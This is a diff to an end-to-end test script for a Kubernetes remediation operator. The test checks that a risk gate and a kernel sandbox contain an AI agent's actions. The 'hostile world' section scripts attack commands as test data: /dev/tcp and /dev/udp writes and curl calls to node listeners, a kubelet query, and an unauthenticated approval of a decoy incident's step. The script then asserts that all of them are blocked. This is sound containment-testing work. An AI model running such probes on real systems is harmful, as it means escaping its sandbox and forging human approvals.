@@ -24,7 +24,9 @@
 #      the operator's ClusterRoleBinding is taken away for a moment)
 #   7. the sandbox report from real Pods under the chart's defaults and
 #      under RuntimeDefault seccomp with hostUsers: false
-#   8. stop: the node and the control plane leave nothing behind
+#   8. stop: the node and the control plane leave nothing behind (no
+#      mount, cgroup, bridge, iptables chain or CNI cache entry; ip_forward
+#      as before)
 #
 # Needs root, scripts/node install, scripts/control-plane install and
 # scripts/chart-tools install (./scripts/test runs them); python3 with
@@ -69,13 +71,23 @@ finish() {
     kubectl get incidents,pods,jobs -A -o wide >&2 || true
     kubectl -n "$SYSTEM" logs -l app.kubernetes.io/component=operator --tail=30 --prefix >&2 || true
   fi
+  if [ "$status" -ne 0 ]; then
+    local log
+    for log in "$work"/node/logs/*.log "$work"/node.logs/*.log "$work"/cp/logs/*.log; do
+      [ -f "$log" ] || continue
+      echo "--- last lines of $log" >&2
+      grep -v DEPRECATION "$log" | tail -n 15 >&2 || true
+    done
+  fi
   if [ "${KEEP:-0}" = 1 ]; then
     echo "kept: eval \"\$(scripts/node env $work/node)\"; scripts/node stop $work/node; scripts/control-plane stop $work/cp"
     return
   fi
-  scripts/node stop "$work/node" 2>&1 | grep -v DEPRECATION || true
-  scripts/control-plane stop "$work/cp" || true
-  rm -rf "$work"
+  local stopped=1
+  if [ -e "$work/node" ]; then (scripts/node stop "$work/node" 2>&1 | grep -v DEPRECATION) || stopped=0; fi
+  if [ -e "$work/cp" ]; then scripts/control-plane stop "$work/cp" || stopped=0; fi
+  # Nothing is removed under a node that did not stop cleanly.
+  if [ "$stopped" = 1 ]; then rm -rf --one-file-system "$work"; else echo "kept $work: the stop failed" >&2; fi
 }
 trap finish EXIT
 
@@ -197,7 +209,8 @@ await_leader() {
 
 # Objects that belong to an Incident, by the operator's label.
 owned_objects() {
-  kubectl get pods,jobs,secrets -n "$NAMESPACE" -l "remediator.dev/incident=$1" -o name 2>/dev/null || true
+  kubectl get pods,jobs,secrets -n "$NAMESPACE" -l "remediator.dev/incident=$1" -o name ||
+    die "listing what $1 owns failed"
 }
 
 # ---------------------------------------------------------------- 1. images
@@ -210,6 +223,7 @@ scripts/image-rootfs archive remediator --tag "$IMAGE:$TAG" --out "$work/remedia
 scripts/image-rootfs archive target-service --tag "$TARGET_IMAGE:$TAG" --out "$work/target-service.tar"
 
 step "   control plane and node"
+echo "net.ipv4.ip_forward=$(sysctl -n net.ipv4.ip_forward)" >"$work/ip_forward.before"
 address="$(scripts/node address)"
 tie=(--while-stdin-open)
 [ "${KEEP:-0}" = 1 ] && tie=()
@@ -257,7 +271,7 @@ echo '[]' >"$work/prometheus/targets.json"
       mv "$work/prometheus/targets.next" "$work/prometheus/targets.json"
     sleep 2
   done
-) &
+) 7>&- &
 target="$work/prometheus/targets.json"
 python3 - "$work/rendered.yaml" "$work/prometheus" "$target" <<'PY'
 import os, sys, yaml
@@ -280,7 +294,7 @@ yaml.safe_dump(config, open(f"{out}/prometheus.yml", "w"))
 PY
 prometheus_port="$(shuf -i 20000-32000 -n 1)"
 prometheus --config.file="$work/prometheus/prometheus.yml" --storage.tsdb.path="$work/prometheus/data" \
-  --web.listen-address="127.0.0.1:$prometheus_port" >"$work/prometheus/log" 2>&1 &
+  --web.listen-address="127.0.0.1:$prometheus_port" >"$work/prometheus/log" 2>&1 7>&- &
 prometheus_pid=$!
 promql() {
   curl -s --max-time 5 "http://127.0.0.1:$prometheus_port/api/v1/query" --data-urlencode "query=$1" |
@@ -321,9 +335,10 @@ echo "   $before deleted at step $steps_before; $(leader) leads"
 await_resolved leader-loss
 check_resolved leader-loss "$ALL_LAYERS"
 steps="$(field leader-loss '{range .status.actions[*]}{.step}{" "}{end}')"
-[ "$(tr ' ' '\n' <<<"$steps" | sed '/^$/d' | sort -n | uniq -d)" = "" ] || die "a step was repeated: $steps"
-[ "$(tr ' ' '\n' <<<"$steps" | sed '/^$/d' | sort -n | tr '\n' ' ')" = "$steps" ] || die "steps out of order: $steps"
-echo "   Resolved under the new leader; steps $steps(none repeated)"
+count="$(wc -w <<<"$steps")"
+[ "$count" -ge 2 ] || die "leader-loss recorded $count actions: $steps"
+[ "$steps" = "$(seq -s ' ' 1 "$count") " ] || die "steps repeated, missing or out of order: $steps"
+echo "   Resolved under the new leader; steps $steps(in order, none repeated or missing)"
 
 # ---------------------------------------------------------------- 5. deleted mid-run
 
@@ -372,8 +387,8 @@ script = [
     run(f"curl -s -m 3 http://{a}:$tcp_port/{n}; bash -c 'echo {n} > /dev/tcp/{a}/$tcp_port'"),
     run(f"bash -c 'echo {n} > /dev/udp/{a}/$udp_port'"),
     run(f"curl -sk -m 3 https://{a}:$kubelet_port/pods"),
-    # Other Pods: the operator's Action API (a forged approval for the
-    # decoy), the decoy's service, cluster DNS.
+    # Other Pods: the operator's Action API (an unauthenticated request for
+    # the decoy's step), the decoy's service, cluster DNS.
     run(f"curl -s -m 3 -X POST -H 'Content-Type: application/json' -d '{{\"approve\": $decoy_step}}' http://$operator_ip:8080/v1/incidents/$NAMESPACE/decoy/steps/$decoy_step"),
     run(f"curl -s -m 3 http://remediator.$SYSTEM.svc:8080/v1/incidents/$NAMESPACE/decoy/session"),
     run(f"curl -s -m 3 http://$decoy_ip:8080/{n}; curl -s -m 3 http://$decoy_ip:8080/health"),
@@ -384,7 +399,7 @@ json.dump(script, open(sys.argv[1], "w"))
 PY
 python3 e2e/node/hostile_world.py --bind "$address" --model-port "$model_port" --tcp-port "$tcp_port" \
   --udp-port "$udp_port" --script "$work/script.json" --requests "$work/requests" --hits "$work/hits" \
-  >"$work/world.log" 2>&1 &
+  >"$work/world.log" 2>&1 7>&- &
 world_pid=$!
 until grep -q ready "$work/world.log"; do
   kill -0 "$world_pid" 2>/dev/null || die "the hostile world did not start: $(cat "$work/world.log")"
@@ -414,17 +429,22 @@ until case "$(field hostile '{.status.phase}')" in Resolved | Failed) true ;; *)
   [ "$SECONDS" -lt "$deadline" ] || die "the hostile Incident did not finish within ${TIMEOUT_S}s"
   sleep 0.5
 done
-kill "$world_pid" 2>/dev/null || true
 echo "   hostile: $(field hostile '{.status.phase}') ($(field hostile '{.status.reason}')), $(grep -c . "$work/requests") model calls"
 echo "     step:risk:decision:exit: $(field hostile '{range .status.actions[*]}{.step}:{.risk}:{.decision}:{.exitCode} {end}')"
+# Every attack was asked for and ran: the gate let each through (maxRisk
+# HIGH), so what held below was the kernel sandbox.
+script_length="$(jq length "$work/script.json")"
+[ "$(grep -c . "$work/requests")" -eq "$script_length" ] ||
+  die "the model was asked $(grep -c . "$work/requests") times, not once per scripted call ($script_length)"
+ran="$(field hostile '{range .status.actions[*]}{.decision}:{.exitCode}{"\n"}{end}' | grep -cE '^Allowed:[0-9]+$')" || true
+[ "$ran" -eq $((script_length - 1)) ] || die "only $ran of $((script_length - 1)) attacks ran with an exit code"
 # The verdict is the controller's own probe: the agent's "fixed" is not believed.
 [ "$(field hostile '{.status.phase}')" = Failed ] || die "the hostile Incident, which fixed nothing, is $(field hostile '{.status.phase}')"
 [ "$(cat "$outside/canary.txt")" = canary ] || die "the node's canary changed: $(cat "$outside/canary.txt")"
 [ "$(ls -A "$outside")" = canary.txt ] || die "new files on the node: $(ls -A "$outside")"
 [ ! -s "$work/hits" ] || die "the node's listeners were reached: $(cat "$work/hits")"
-if kubectl logs -n kube-system -l k8s-app=kube-dns --tail=-1 | grep -q "$nonce"; then
-  die "cluster DNS was asked for $nonce"
-fi
+kubectl logs -n kube-system -l k8s-app=kube-dns --tail=-1 >"$work/dns.log" || die "reading CoreDNS's log failed"
+if grep -q "$nonce" "$work/dns.log"; then die "cluster DNS was asked for $nonce"; fi
 [ "$(field decoy '{.status.phase}')" = AwaitingApproval ] && [ "$(field decoy '{.status.pendingApproval.step}')" = "$decoy_step" ] ||
   die "the decoy Incident moved: $(field decoy '{.status.phase}') step $(field decoy '{.status.pendingApproval.step}')"
 # No secret of the cluster reached the model.
@@ -437,7 +457,19 @@ done
 for value in "${secrets[@]}"; do
   if grep -qF -- "$value" "$work/requests"; then die "the model was shown a secret of the cluster"; fi
 done
-echo "   the node's canary, its listeners, cluster DNS, the decoy Incident and ${#secrets[@]} secrets: untouched"
+# Positive controls: from the decoy's sandbox container itself (not through
+# the sandbox), the same listeners and DNS do answer, so the silence above
+# is the sandbox's doing.
+control="control$RANDOM$RANDOM"
+kubectl exec -n "$NAMESPACE" decoy-scenario -c sandbox -- \
+  sh -c "curl -s -m 3 http://$address:$tcp_port/$control; getent hosts $control.default.svc.cluster.local" >/dev/null 2>&1 || true
+deadline=$((SECONDS + 30))
+until grep -q tcp "$work/hits" && kubectl logs -n kube-system -l k8s-app=kube-dns --tail=-1 | grep -c "$control" >/dev/null; do
+  [ "$SECONDS" -lt "$deadline" ] || die "controls failed: a plain container in the decoy Pod reached neither the node's listener ($(cat "$work/hits")) nor CoreDNS's log"
+  sleep 0.5
+done
+kill "$world_pid" 2>/dev/null || true
+echo "   the node's canary, its listeners, cluster DNS, the decoy Incident and ${#secrets[@]} secrets: untouched (a plain container reaches the listener and DNS)"
 kubectl delete incident -n "$NAMESPACE" decoy hostile >/dev/null
 
 # ---------------------------------------------------------------- 6. alerts
@@ -520,7 +552,7 @@ sandbox_under() {
   local actions; actions="$(field "$name" '{range .status.actions[*]}{.step}:{.risk}:{.decision} {end}')"
   echo "     actions (step:risk:decision): $actions"
   # Weak containment caps the gate at LOW: nothing riskier ran.
-  if grep -qE ':(MEDIUM|HIGH|CRITICAL):(Allowed|Confirmed)' <<<"$actions"; then
+  if grep -qE ':(MEDIUM|HIGH|UNKNOWN):(Allowed|Confirmed)' <<<"$actions"; then
     die "$name: an action above LOW ran under weak containment: $actions"
   fi
 }
@@ -539,4 +571,17 @@ sandbox="$(field under-runtime-default '{.status.sandbox}')"
 grep -q "no-userns" <<<"$sandbox" || die "under RuntimeDefault the sandbox report does not say user namespaces were refused: $sandbox"
 
 
-step "8. done in $(elapsed) s; stopping the node and the control plane"
+step "8. stop: the node and the control plane leave nothing behind"
+kill $(jobs -p) 2>/dev/null || true
+[ "${KEEP:-0}" = 1 ] && exit 0
+scripts/node stop "$work/node" 2>&1 | grep -v DEPRECATION
+scripts/control-plane stop "$work/cp"
+[ ! -e "$work/node" ] || die "scripts/node stop left $work/node"
+! ip link show remediator0 >/dev/null 2>&1 || die "the bridge remediator0 is still there"
+[ -z "$(awk -v p="$work/" 'index($5, p) == 1' /proc/self/mountinfo)" ] || die "mounts under $work are left"
+[ -z "$(ls -d /sys/fs/cgroup/*/remediator-node 2>/dev/null)" ] || die "the node's cgroups are left"
+! iptables-save | grep -qE '^:(KUBE-|CNI-)' || die "KUBE-/CNI- iptables chains are left"
+[ -z "$(ls /var/lib/cni/results/remediator-* 2>/dev/null)" ] || die "CNI result cache entries of the node are left"
+[ "$(sysctl -n net.ipv4.ip_forward)" = "$(sed -n 's/^net.ipv4.ip_forward=//p' "$work/ip_forward.before")" ] ||
+  die "net.ipv4.ip_forward was not put back"
+echo "   nothing left; done in $(elapsed) s"
